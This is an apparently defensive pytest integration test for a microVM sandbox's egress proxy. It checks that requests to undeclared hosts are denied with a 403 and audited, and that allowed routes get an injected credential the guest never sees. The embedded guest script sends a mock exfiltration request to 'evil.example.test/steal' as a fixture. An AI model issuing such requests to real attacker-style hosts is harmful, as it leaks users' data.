"""The egress path of a microVM, end to end: a guest with no network device talks to
its proxy on `127.0.0.1:3128`; the forwarder carries it over the host channel to a
real `bot-bottle egress serve` on a Unix socket, which denies an undeclared host with
its 403 and forwards a declared route with the sidecar-held credential injected, to a
recording fake upstream on loopback.

The guest trusts the egress CA, handed to it on the provision disk, and checks the
certificate the egress presents for the upstream name."""

from __future__ import annotations

import os
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "egress"))

from egress_harness import DEFAULT_ROUTES, SECRET, Egress, routes_doc, start_egress
from egress_upstream import Upstream, start_upstream

from bot_bottle.backends.microvm import boot, provision_disk
from bot_bottle.backends.microvm.channel import HostChannel
from bot_bottle.backends.microvm.provision_disk import GuestFile
from bot_bottle.backends.microvm.qemu import VmConfig, host_tsc_khz
from bot_bottle.executor import ProcessExecutor
from bot_bottle.images.guest.store import BootFiles

GUEST = """
import http.client, ssl, sys
c = http.client.HTTPConnection("127.0.0.1", 3128, timeout=60)
c.request("GET", "http://evil.example.test/steal")
r = c.getresponse()
print("denied:", r.status, r.read()[:300])
ctx = ssl.create_default_context(cafile="/run/bot-bottle/files/egress-ca.pem")
c = http.client.HTTPSConnection("127.0.0.1", 3128, timeout=90, context=ctx)
c.set_tunnel("api.example.test", int(sys.argv[1]))
c.request("GET", "/v1/models", headers={"Authorization": "Bearer agent-placeholder"})
r = c.getresponse()
print("allowed:", r.status, r.read()[:300])
"""


@pytest.fixture(scope="module")
def run(
    boot_files: BootFiles, root_image: os.PathLike[str], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[boot.Boot, Egress, Upstream]]:
    d = tmp_path_factory.mktemp("egress-vm")
    os.chmod(d, 0o700)
    (d / "upstream").mkdir()
    up = start_upstream(d / "upstream")
    eg = start_egress(d / "egress", routes_doc(up, DEFAULT_ROUTES), listen=f"unix:{d}/egress.sock")
    channel = HostChannel(d / "channel.sock", {3128: d / "egress.sock"})
    disk = provision_disk.write([GuestFile("egress-ca.pem", eg.ca.read_bytes())], d / "prov.tar")
    cfg = VmConfig("tcg", boot_files.kernel.vmlinuz, boot_files.initramfs,
                   root=Path(root_image), command=("python3", "-c", GUEST, str(up.port)),
                   tsc_khz=host_tsc_khz(Path("/proc/cpuinfo").read_text()),
                   channel=channel.path, mux_ports=(3128,), user=1000,
                   provision=disk)  # fmt: skip
    try:
        yield boot.run(cfg, ProcessExecutor(), timeout=150, marker="allowed:"), eg, up
    finally:
        channel.close()
        eg.stop()
        up.stop()


def test_undeclared_host_is_denied_by_the_egress(run: tuple[boot.Boot, Egress, Upstream]) -> None:
    b, eg, _ = run
    assert "denied: 403" in b.output, b.output[-3000:]
    rec: dict[str, Any] = eg.wait_audit(lambda r: "evil.example.test" in str(r))
    assert rec


def test_declared_route_gets_the_sidecar_credential(
    run: tuple[boot.Boot, Egress, Upstream],
) -> None:
    b, _, up = run
    assert "allowed: 200" in b.output, b.output[-3000:]
    got = up.last()
    assert got.path == "/v1/models"
    assert got.header("authorization") == f"Bearer {SECRET}"
    assert SECRET not in b.output  # the guest never sees the credential
